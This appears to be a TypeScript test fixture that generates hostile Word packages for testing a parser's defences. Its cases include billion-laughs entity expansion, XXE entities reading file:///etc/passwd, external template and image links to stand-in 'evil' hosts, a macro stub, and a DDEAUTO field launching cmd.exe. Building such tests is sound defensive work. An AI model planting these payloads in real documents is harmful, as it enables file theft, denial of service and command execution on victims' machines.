import { strToU8 } from "fflate";
import { rawZip } from "../builders/rawZip.ts";
import { run, wordFiles, wordParagraph } from "../builders/wordPackage.ts";
import { type HostileFile, hostile, MEBIBYTE } from "./hostilePackages.ts";

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const READS = { reads: "內文" } as const;
const zipped = (files: Readonly<Record<string, Uint8Array | string>>) =>
  rawZip(Object.entries(files).map(([name, content]) => ({ name, content })));
const document = (xml: string | Uint8Array) => () => zipped({ "word/document.xml": xml });
const main = (content: string, before = "") => `${before}<w:document ${W}><w:body>${content}</w:body></w:document>`;
const paragraph = wordParagraph(run("內文"));
const body = (content: string) => document(main(content));

const LAUGHS = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join(
  "",
);
const doctype = (inside: string) => `<!DOCTYPE d [${inside}]>`;
const withDoctype = (inside: string, use: string) => document(main(wordParagraph(run(use)), doctype(inside)));
const withParts =
  (parts: Readonly<Record<string, string>>, content = paragraph) =>
  () =>
    zipped({ ...wordFiles({ body: content }), ...parts });
const external = (type: string, target: string) =>
  withParts({
    "word/_rels/document.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  });
const nested = (count: number, open: string, close: string) => open.repeat(count) + close.repeat(count);
const cell = (content: string) => `<w:tbl><w:tr><w:tc>${content}</w:tc></w:tr></w:tbl>`;
const deepTables = (count: number): string => (count === 0 ? paragraph : cell(deepTables(count - 1)));

/** Word packages whose XML is made to do harm. */
export const HOSTILE_XML: readonly HostileFile[] = [
  hostile("a billion laughs", "a.docx", withDoctype(`<!ENTITY l0 "ha">${LAUGHS}`, "&l9;"), "damaged"),
  hostile(
    "a quadratic entity",
    "a.docx",
    withDoctype(`<!ENTITY a "${"a".repeat(50_000)}">`, "&a;".repeat(50_000)),
    "damaged",
  ),
  hostile(
    "an entity that reads a file",
    "a.docx",
    withDoctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
    "damaged",
  ),
  hostile(
    "an entity that calls the network",
    "a.docx",
    withDoctype('<!ENTITY x SYSTEM "http://127.0.0.1/x">', "&x;"),
    "damaged",
  ),
  hostile("a parameter entity", "a.docx", withDoctype('<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;', "a"), "damaged"),
  hostile("an entity that nobody defined", "a.docx", body(wordParagraph(run("&x;"))), "damaged"),
  hostile("200,000 nested elements", "a.docx", body(nested(200_000, "<w:ins>", "</w:ins>")), "too-large"),
  hostile("tables 60 deep", "a.docx", body(deepTables(60)), READS),
  hostile("1,200,000 elements", "a.docx", body("<w:p><w:r/></w:p>".repeat(600_000)), "too-large"),
  hostile(
    "6,000,000 characters",
    "a.docx",
    body(
      Array.from({ length: 60 }, (_, index) =>
        wordParagraph(
          run(Array.from({ length: 25_000 }, (_, k) => (index * k).toString(36).padStart(4, "x")).join("")),
        ),
      ).join(""),
    ),
    "too-large",
  ),
  hostile("XML that stops in the middle", "a.docx", document(main(paragraph).slice(0, -30)), "damaged"),
  hostile("XML with characters that XML forbids", "a.docx", body(wordParagraph(run("\u0001內文"))), "damaged"),
  hostile(
    "XML that is not UTF-8",
    "a.docx",
    document(Uint8Array.from([...strToU8("<a>"), 0xff, 0xfe, ...strToU8("</a>")])),
    "damaged",
  ),
  hostile(
    "UTF-16 with its mark",
    "a.docx",
    document(Buffer.from(`\ufeff${main(paragraph, '<?xml version="1.0" encoding="UTF-16"?>')}`, "utf16le")),
    READS,
  ),
  hostile("UTF-16 without its mark", "a.docx", document(Buffer.from(main(paragraph), "utf16le")), "damaged"),
  hostile("UTF-7", "a.docx", document(main(paragraph, '<?xml version="1.0" encoding="UTF-7"?>')), "damaged"),
  hostile("another root", "a.docx", document("<html/>"), "not-a-package"),
  hostile("no body", "a.docx", document(`<w:document ${W}/>`), "damaged"),
  hostile("a template on a share", "a.docx", external("attachedTemplate", "\\\\evil\\share\\a.dotm"), READS),
  hostile("a picture on the network", "a.docx", external("image", "http://evil.test/a.png"), READS),
  hostile("styles outside the package", "a.docx", external("styles", "file:///etc/passwd"), READS),
  hostile(
    "an embedded web page",
    "a.docx",
    withParts({ "word/a.html": "<script>1</script>" }, `${paragraph}<w:altChunk/>`),
    READS,
  ),
  hostile("macros in a .docm", "a.docm", withParts({ "word/vbaProject.bin": "Sub AutoOpen()" }), READS),
  hostile(
    "a DDE field",
    "a.docx",
    body(
      wordParagraph(
        `${run("內文")}<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      ),
    ),
    READS,
  ),
  hostile(
    "a note that holds itself",
    "a.docx",
    () =>
      zipped(
        wordFiles({
          body: wordParagraph(`${run("內文")}<w:r><w:footnoteReference w:id="1"/></w:r>`),
          footnotes: `<w:footnote w:id="1">${wordParagraph('<w:r><w:footnoteReference w:id="1"/></w:r>')}</w:footnote>`,
        }),
      ),
    READS,
  ),
  hostile(
    "a note of a megabyte, referred to 5,000 times",
    "a.docx",
    () =>
      zipped(
        wordFiles({
          body: wordParagraph(run("內文") + '<w:r><w:footnoteReference w:id="1"/></w:r>'.repeat(5000)),
          footnotes: `<w:footnote w:id="1">${wordParagraph(run(randomish(MEBIBYTE)))}</w:footnote>`,
        }),
      ),
    READS,
  ),
  hostile(
    "styles based on each other",
    "a.docx",
    () =>
      zipped(
        wordFiles({
          body: wordParagraph(run("內文"), '<w:pStyle w:val="A"/>'),
          styles:
            '<w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style>',
        }),
      ),
    READS,
  ),
  hostile(
    "lists and spans of absurd numbers",
    "a.docx",
    () =>
      zipped(
        wordFiles({
          body: `${wordParagraph(run("內文"), '<w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="1"/></w:numPr>')}<w:tbl><w:tr><w:trPr><w:gridBefore w:val="-5"/></w:trPr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>${paragraph}</w:tc></w:tr></w:tbl>`,
          numbering:
            '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="99999999999999999999"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1%9"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
        }),
      ),
    READS,
  ),
  hostile(
    "formats called like what every object has",
    "a.docx",
    () =>
      zipped(
        wordFiles({
          body: wordParagraph(run("內文"), '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'),
          numbering:
            '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="constructor"/><w:lvlText w:val="%1"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
        }),
      ),
    READS,
  ),
];

/** Letters that do not pack well, so that no ratio stops them. */
function randomish(length: number): string {
  let state = 7;
  return Array.from({ length }, () => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    return ((state >> 8) & 31).toString(32);
  }).join("");
}
